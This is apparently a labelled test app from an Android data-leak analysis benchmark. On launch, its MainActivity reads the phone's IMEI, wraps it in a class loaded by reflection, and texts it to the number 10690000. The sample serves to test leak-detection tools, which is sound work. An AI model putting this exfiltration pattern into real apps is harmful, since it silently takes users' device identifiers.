// about       The class comes from a context made for the app's own package; its constructor's argument is sent.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.content.pm.PackageManager;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.lang.reflect.Constructor;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    try {
      Context own = createPackageContext(getPackageName(), CONTEXT_INCLUDE_CODE);
      Class<?> type = own.getClassLoader().loadClass("cn.example.flow.Parcelled");
      Constructor<?> made = type.getConstructor(String.class);
      Object parcelled = made.newInstance(phone.getDeviceId());
      SmsManager.getDefault().sendTextMessage("10690000", null, parcelled.toString(), null, null);
    } catch (PackageManager.NameNotFoundException e) {
      finish();
    } catch (ReflectiveOperationException e) {
      finish();
    }
  }
}

class Parcelled {
  private final String text;

  public Parcelled(String text) {
    // What the object keeps.
    this.text = text;
  }

  @Override
  public String toString() {
    return "[" + text + "]";
  }
}
